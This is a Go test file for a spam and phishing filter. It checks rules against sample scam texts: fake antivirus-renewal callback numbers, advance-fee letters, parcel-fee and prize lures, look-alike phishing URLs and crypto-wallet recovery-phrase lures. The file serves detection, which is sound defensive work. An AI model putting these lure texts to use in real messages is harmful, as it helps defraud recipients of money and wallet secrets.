		{"Notice: This statement can only be accessed on desktop or laptop devices. Mobile viewing is not supported.", true},
		{"The statement can be viewed on desktop or mobile.", false},
		{"Please open the attached receipt only on desktop or laptop computers.", true},
	})
}

// PST_CALLBACK_INVOICE, PST_CALLBACK_FREEMAIL and PST_CALLBACK_BRAND: a charge
// or a renewal, a phone number, and a call to make if the charge was not the
// reader's; from a free mailbox, the second too; naming the merchant it bills
// for from an address that is not the merchant's, the third. A bill to ask
// questions about, a bank's alert that names no number, a number with no
// charge to dispute, the merchant's own receipt and a payment service's
// receipt for it are none of them, or only the first.
func TestDefaultCallbackInvoice(t *testing.T) {
	const geek = "Your Geek Squad membership was renewed. You will be charged $348.80 for your membership.\n\n" +
		"If you believe that this was an unauthorized transaction, please get in touch with our billing department right away at: 844 584-4936\n"
	const norton = "A payment of USD449.11 will be processed today for your membership renewal.\n\n" +
		"This membership will renew automatically each year unless canceled 48 hours before the renewal date. Should you need to make any changes, please contact our Support Team.\n\n" +
		"Customer Care Phone: 810-314-9654\n"
	const norton360 = "A payment of USD449.11 will be processed today for your Norton 360 membership renewal.\n\n" +
		"If you did not authorize this charge, please call our billing department at 810-314-9654.\n"
	plain := strings.Replace(norton360, "Norton 360 ", "", 1) // no brand named
	cases := []struct {
		name, from, body         string
		invoice, freemail, brand bool
	}{
		{"a renewal to dispute by phone", "Billing <billing@geeksquad-renewals.example>", geek, true, false, false},
		{"the number in its own paragraph", "Norton <service@lifelock-billing.example>", norton, true, false, false},
		{"the same from a free mailbox", "Your Order #86765 <danieldedjaey@gmail.com>", geek, true, true, true},
		{"a plumber's bill", "Joe <joe.plumbing@gmail.com>", "Total: $250 for Tuesday's repair.\n\nIf you want to cancel the appointment, call me at 617-555-0123.\n", false, false, false},
		{"a card alert without a number", "Bank <alerts@bank.example>", "A charge of $349.00 was made at BEST BUY.\n\nIf you do not recognize this charge, call the number on the back of your card.\n", false, false, false},
		{"a price and a number, nothing to dispute", "Shop <news@shop.example>", "The new model costs $199.00.\n\nCall 800-555-0199 to order.\n", false, false, false},
		{"the brand from another domain", "Abdullah Villagran <sarkar@iepwest.example>", norton360, true, false, true},
		{"the merchant's own receipt", "Norton <noreply@norton.com>", norton360, true, false, false},
		{"a payment service's receipt for it", "PayPal <service@paypal.com>", norton360, true, false, false},
		{"another maker's own receipt", "Webroot <billing@webroot.com>", strings.Replace(norton360, "Norton 360", "Webroot", 1), true, false, false},
		{"Geek Squad's own", "Geek Squad <renewals@geeksquad.com>", strings.Replace(norton360, "Norton 360", "Geek Squad", 1), true, false, false},
		{"no brand named", "Abdullah Villagran <sarkar@iepwest.example>", plain, true, false, false},
	}
	s := defaultSet(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			m := plainMsg(t, tc.from, "Order confirmation", tc.body)
			wantHit(t, s, m, "PST_CALLBACK_INVOICE", tc.invoice)
			wantHit(t, s, m, "PST_CALLBACK_FREEMAIL", tc.freemail)
			wantHit(t, s, m, "PST_CALLBACK_BRAND", tc.brand)
		})
	}
}

// PST_AV_EXPIRED: an antivirus program's subscription or protection said to
// have expired, the fake renewal's claim; an offer, a renewal price and a
// surname are not.
func TestDefaultAVExpired(t *testing.T) {
	ruleCases(t, "PST_AV_EXPIRED", bodyMsg, []ruleCase{
		{"Ihr McAfee-Abonnement ist abgelaufen", true},
		{"PROTECTION DISABLED: Your Norton Subscription Has Expired On Wednesday", true},
		{"McAfee for the Windows subscription May Be expired on Today : 11-14-2023", true},
		{"Votre abonnement Kaspersky a expiré.", true},
		{"Su suscripción de Bitdefender ha caducado", true},
		{"Upgrade to McAfee Total Protection today and save 50%.", false},
		{"Norton's subscription renewal price went up this year, the review says.", false},
		{"Edward Norton renewed his subscription.", false},
		{"Your subscription has expired. Norton was mentioned elsewhere.", false},
		{"Your Antivirus subscription for Windows expired on January 5, 2026.", true},
		{"ACTION REQUIRED: Norton subscription terminated.", true},
		{"Our antivirus review compares each subscription's price.", false},
	})
}

// PST_REPLY_WITH_PHONE: a reply asked for with the reader's name and phone
// number; a name alone, a number to call, and a form's fields are not.
func TestDefaultReplyWithPhone(t *testing.T) {
	ruleCases(t, "PST_REPLY_WITH_PHONE", bodyMsg, []ruleCase{
		{"For a FREE consultation, simply reply with your name and telephone number.", true},
		{"Just Click REPLY Send me your Name, State, Complete telephone number, and the best time to contact you.", true},
		{"Please reply to this email with your full name, phone number (with area code) and a good time to call.", true},
		{"Please reply with your name so that I can add you to the list.", false},
		{"Call our office at 555-0100 with your questions about the name change.", false},
		{"Your name and your phone number are on your account page.", false},
	})
}

// PST_ADVANCE_FEE: a sum in the millions with two of the letter's other
// parts (the reader as beneficiary or partner, a share, confidence, a death);
// a sum with one of them, or the parts without a sum, are not.
func TestDefaultAdvanceFee(t *testing.T) {
	ruleCases(t, "PST_ADVANCE_FEE", bodyMsg, []ruleCase{
		{"My client Mr. David Brown died of a heart attack. An accumulated share of US$12.360M was transferred into his account, and I need an associate to present as the inheritor of this fund.", true},
		{"The said investment, now valued at ($15.5 million dollars), can be claimed using you as his relative. Please keep this matter strictly confidential.", true},
		{"The total amount is US$21.5M. We are soliciting your assistance to move the fund, and 20% of the total sum will be for you as a foreign partner.", true},
		{"Fifteen million, five hundred thousand dollars only is in the account; you will act as next of kin and there is absolutely no risk involved.", true},
		{"The startup raised $5 million this spring. Please keep this information strictly confidential until the announcement.", false},
		{"The late president's papers go on show; his beneficiary trust funds the museum.", false},
		{"Our service now has 10 million users. Each beneficiary of the programme keeps 5% of the total amount.", false},
	})
}

// PST_TRUSTED_SENDER_CLAIM: a message that says in its own text that it comes
// from a trusted sender, in the campaigns' languages; a newsletter asking to
// be added to the trusted senders, a gateway's external-sender banner, and a
// question about a sender are not.
func TestDefaultTrustedSenderClaim(t *testing.T) {
	ruleCases(t, "PST_TRUSTED_SENDER_CLAIM", bodyMsg, []ruleCase{
		{"This message is from a trusted sender. Your FedEx parcel is on hold.", true},
		{"-This message was sent by a trusted sender. You have been selected.", true},
		{"This message is sent from a trusted sender certified by Outlook Online Support Team.", true},
		{"-Este mensaje fue enviado por un remitente de confianza. GLS Track&trace", true},
		{"-Ce message a été envoyé par un expéditeur de confiance. FED EX", true},
		{"Diese Nachricht wurde von einem vertrauenswürdigen Absender gesendet.", true},
		{"To make sure our newsletter arrives, add us to your trusted senders list.", false},
		{"[EXTERNAL] This message is from an external sender. Be careful with links.", false},
		{"Is this message from a trusted sender? Check the address before you click.", false},
	})
}

// PST_PARCEL_FEE: a parcel held for a fee, in the campaigns' languages; a
// shop's receipt with its delivery fee, and news about customs, are not.
func TestDefaultParcelFee(t *testing.T) {
	ruleCases(t, "PST_PARCEL_FEE", bodyMsg, []ruleCase{
		{"Your package is on hold. Pay the customs fee of $2.99 to release it.", true},
		{"Seu pedido está retido na alfândega devido a taxas pendentes.", true},
		{"Regularize as taxas para liberar sua encomenda.", true},
		{"Ihr Paket wurde zurückgehalten. Bitte zahlen Sie die Zollgebühr.", true},
		{"Votre colis est en attente: frais de douane 1,99 €.", true},
		{"Uw pakket wordt vastgehouden, betaal de douanekosten.", true},
		{"Subtotal $24.00, delivery fee $2.99, shipping fee $5.00. Thank you for your order.", false},
		{"The minister spoke about customs unions and the parcel post.", false},
	})
}

// PST_SELECTED_PRIZE: "you have been selected" with a prize or a reward, in
// the campaigns' languages; a selection without a prize, and a prize without
// a selection, are not.
func TestDefaultSelectedPrize(t *testing.T) {
	plainCases(t, "PST_SELECTED_PRIZE", []plainCase{
		{"", "Congratulations", "You've been selected to receive a $500 Walmart gift card.", true},
		{"", "Douglas", "Sie wurden für eine Prämie von Douglas ausgewählt.", true},
		{"", "ADAC", "Du wurdest auserwählt! Deine Belohnung wartet.", true},
		{"", "Leclerc", "Vous avez été sélectionné pour recevoir un cadeau.", true},
		{"", "Prêmio", "Você foi selecionado para receber um prêmio exclusivo.", true},
		{"", "Jury duty", "You have been selected for jury service on 3 March.", false},
		{"", "Raffle", "The prize draw is on Friday; the gift shop opens at nine.", false},
	})
}

// PST_SUBJ_ADV_LABEL: the subject label of unsolicited advertising, after a
// list's tags; not in a reply, nor as a word.
func TestDefaultAdvLabel(t *testing.T) {
	ruleCases(t, "PST_SUBJ_ADV_LABEL", subjectMsg, []ruleCase{
		{"ADV: Mortgage Quotes Fast Online", true},
		{"Adv : Free Life Insurance quote", true},
		{"[ILUG-Social] adv: Need a Credit Card?", true},
		{"未承諾広告※ 最新情報", true},
		{"RE: FREE STAR WARS CARDS Adv:", false},
		{"Re: ADV: what is this?", false},
		{"Advisory: server maintenance tonight", false},
		{"Adventure: the trip report", false},
	})
}

// PST_URI_HOMOGRAPH: a link to a host spelt with look-alike letters, written
// as Unicode or as xn--; names in one alphabet are not.
func TestDefaultURIHomograph(t *testing.T) {
	ruleCases(t, "PST_URI_HOMOGRAPH", linkMsg, []ruleCase{
		{"https://pаypal.com/signin", true},         // Cyrillic а
		{"https://xn--pypal-4ve.com/signin", true},  // the same, as DNS holds it
		{"https://login.аррӏе.com/", true},          // all Cyrillic, under .com
		{"http://secure-mеtamask.io/restore", true}, // Cyrillic е, before a hyphen
		{"https://www.bücher.de/", false},           // Latin with a diacritic
		{"https://пример.рф/", false},               // Cyrillic under a Cyrillic TLD
		{"https://xn--e1afmkfd.xn--p1ai/", false},   // the same, as DNS holds it
		{"https://сайт.com/", false},                // Cyrillic, not all look-alikes
		{"https://www.example.com/xn--pypal-4ve", false},
	})
}

// PST_WALLET_LURE: a wallet to be verified or unlocked, or its recovery
// phrase asked for; advice to keep one safe, and other wallets, are not.
func TestDefaultCryptoClaim(t *testing.T) {
	ruleCases(t, "PST_CRYPTO_CLAIM", bodyMsg, []ruleCase{
		{"Manta Airdrop: claim your airdrop tokens now!", true},
		{"The $BOB airdrop is live. Check your eligibility.", true},
		{"Limited-Edition NFTs available now. Claim your free NFTs!", true},
		{"Claim your XRP tokens before Friday.", true},
		{"Welcome to the XRP Token Allocation Program.", true},
		{"Register to claim your XRP allocation.", true},
		{"Share the photos with AirDrop from your iPhone.", false},
		{"The budget allocation for the tokens team was approved.", false},
		{"Claim your seat allocation at the conference desk.", false},
		{"Share your boarding pass with AirDrop, or add it to Apple Wallet.", false},
		{"The relief airdrop reached the village on Tuesday.", false},
		{"Claim your reward points at the checkout.", false},
	})
}

func TestDefaultVoucherPrize(t *testing.T) {
	ruleCases(t, "PST_VOUCHER_PRIZE", bodyMsg, []ruleCase{
		{"Jetzt 500€ EDEKA-Gutschein sichern!", true},
		{"Gewinnen Sie einen Gutschein von Decathlon im Wert von 1.000 Euro.", true},
		{"Claim your $200 Amazon gift card today.", true},
		{"Votre bon d'achat de 250 € vous attend.", true},
		{"Here is a 10€ voucher for your next order.", false},
		{"Your gift card balance: 25.00 USD.", false},
		{"Order 500 vouchers printed for the fair.", false},
	})
}

func TestDefaultGreetAddress(t *testing.T) {
	ruleCases(t, "PST_GREET_ADDRESS", bodyMsg, []ruleCase{
		{"Hallo user@example.com, Ihr Paket wartet.", true},
		{"Dear john.doe@example.com: your mailbox is full.", true},
		{"Olá joao@example.com.br, seu saldo expira hoje.", true},
		{"Prezado(a) cliente@example.com.br, regularize seu CPF.", true},
		{"Hi <user@example.com>, your invoice is attached.", true},
		{"Hi, joe@example.com said:\n> the patch works", false},
		{"Hi Anna, write to support@example.com for a copy.", false},
		{"Write to hello@example.com for help.", false},
		{"hirvox@example.com wrote: it builds now.", false},
	})
	// The reader's own address in the Subject is the same sign; a list's
	// address in a reply's Subject to the list is not.
	ruleCases(t, "PST_GREET_ADDRESS", func(t *testing.T, head string) *filter.Message {
		return msgOf(t, "From: a@example.com\nTo: user@example.com\n"+head+"\nMessage-ID: <1@x.example>\n\nHello.\n")
	}, []ruleCase{
		{"Subject: Dringend für user@example.com: Ihr Paket", true},
		{"Subject: Re: user@example.com\nList-Id: <users.example.com>", false},
		{"Subject: Your parcel", false},
	})
}

func TestDefaultBrazilGovLure(t *testing.T) {
	ruleCases(t, "PST_BR_GOV_LURE", bodyMsg, []ruleCase{
		{"Seu CPF está em processo de bloqueio. Regularize hoje.", true},
		{"Processo de cancelamento do seu CPF: pendência fiscal.", true},
		{"Banco Central - Valores a Receber - Protocolo 4471.", true},
		{"Notificação de Infração de Trânsito vinculada ao seu veículo.", true},
		{"Evite a suspensão definitiva da sua CNH.", true},
		{"O CPF do titular é obrigatório no cadastro.", false},
		{"A CNH digital já está disponível no aplicativo.", false},
		{"A Receita Federal divulga o calendário do imposto de renda.", false},
		{"CPF bloqueado? Veja como regularizar, diz a Receita.", false}, // news: no "your"
	})
}

func TestDefaultWalletLure(t *testing.T) {
	ruleCases(t, "PST_WALLET_LURE", bodyMsg, []ruleCase{
		{"Please verify your Trust Wallet within 24 hours.", true},
		{"Your wallet has been temporarily suspended. Unlock your wallet now.", true},
		{"Enter your 12-word recovery phrase to restore access.", true},
		{"Wallet synchronization required.", true},
		{"Never share your recovery phrase. Secure your wallet with a passphrase.", false},
		{"Add your boarding pass to Apple Wallet.", false},
		{"I left my wallet at the restaurant.", false},
		{"Our system has shown that your Ledger device has not yet been verified.", true},
		{"Update my Ledger device", true},
		{"Please verify your Trezor Model T device before Monday.", true},
		{"We are making two-factor authentication (2FA) a mandatory step for all our hardware wallet users.", true},
		{"Update Ledger Live to version 2.80 for the new staking screen.", false},
		{"Please update your Ledger Live app.", false},
		{"We recommend enabling 2FA on your exchange account and keeping coins in a hardware wallet.", false},
		{"Action Required: Verify Your Recovery Phrase", true},
		{"Ledger Data Breach – Check Your Recovery Phrase", true},
		{"Our system has shown that your 12 words recovery phrase has not yet been verified.", true},
		{"Please verify if your recovery phrase has been affected.", true},
		{"In a limited number of cases, elements of customer recovery phrases may also have been affected.", true},
		{"We strongly recommend verifying and re-securing your recovery phrase.", true},
		{"Keep your recovery phrase secure and offline.", false},
		{"Your recovery phrase was not affected by the incident: we never hold it.", false},
		{"Your Ledger may be vulnerable", true},
		{"Vault Scanner: your wallet may be breached.", true},
		{"Scan your Iedger now", true},
		{"The Ledger wallet associated with your e-mail address has been found within those affected by the breach.", true},
		{"Your wallet could not be affected by this bug.", false},
		{"Your Ledger is not affected by the Connect Kit exploit.", false},
		{"Your Ledger Nano X is not yet verified.", true},
		{"Scan the wallet address to pay the invoice.", false},
		{"If you use several currencies, your ledger may be affected by the rounding change.", false},
		{"An exploit drained wallets on the bridge last night.", false},
	})
}

// TestIgnoredOwn: the directives Postern ignores are counted in all files
// (Ignored), and apart for the operator's own (IgnoredOwn): the stock rules'
// default preferences are not the operator's settings, whose lint points to
// Postern's configuration.
func TestIgnoredOwn(t *testing.T) {
	stock := writeRules(t, map[string]string{"10_default_prefs.cf": "required_score 5\nreport_safe 1\n"})
	defer func(u, d string) { saUpdateDir, debianStockDir = u, d }(saUpdateDir, debianStockDir)
	saUpdateDir, debianStockDir = t.TempDir(), stock
	own := writeRules(t, map[string]string{"local.cf": "required_score 6\nuse_bayes 1\n"})
	s, problems := Load(StockPath, DefaultPath, filepath.Join(own, "local.cf"))
	if len(Errors(problems)) > 0 {
		t.Fatal(problems)
	}
	for _, c := range []struct {
		directive string
		all, own  int
	}{{"required_score", 2, 1}, {"report_safe", 1, 0}, {"use_bayes", 1, 1}} {
		if s.Ignored[c.directive] != c.all || s.IgnoredOwn[c.directive] != c.own {
			t.Errorf("%s: ignored %d, own %d; want %d, %d", c.directive, s.Ignored[c.directive], s.IgnoredOwn[c.directive], c.all, c.own)
		}
	}
}
